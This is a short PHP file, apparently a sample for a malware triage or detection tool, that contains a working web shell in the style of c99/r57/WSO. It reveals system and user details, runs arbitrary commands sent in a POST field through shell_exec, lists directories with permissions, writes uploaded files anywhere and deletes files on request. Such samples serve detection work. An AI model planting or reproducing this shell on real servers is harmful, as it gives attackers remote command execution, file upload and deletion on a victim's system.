<?php
// triage-expect: triage_php_shell_console
// A multi-tool console in the style of the classic c99/r57/WSO/b374k shells.
$cwd = isset($_POST['d']) ? $_POST['d'] : getcwd();
echo "<b>Uname:</b> " . php_uname() . "<br>";
echo "<b>User:</b> " . print_r(posix_getpwuid(posix_geteuid()), true) . "<br>";
echo "Safe mode: " . (ini_get('safe_mode') ? 'ON' : 'OFF') . "<br>";
echo "Disabled: " . ini_get('disable_functions') . "<br>";
echo "Free: " . disk_free_space($cwd) . "<br>";
if (!empty($_POST['c'])) {
    echo "<pre>" . shell_exec($_POST['c'] . ' 2>&1') . "</pre>";
}
foreach (scandir($cwd) as $f) {
    echo $f . ' ' . substr(sprintf('%o', fileperms($cwd . '/' . $f)), -4) . "<br>";
}
if (!empty($_FILES['u'])) {
    move_uploaded_file($_FILES['u']['tmp_name'], $cwd . '/' . $_FILES['u']['name']);
}
if (!empty($_POST['rm'])) { unlink($_POST['rm']); }
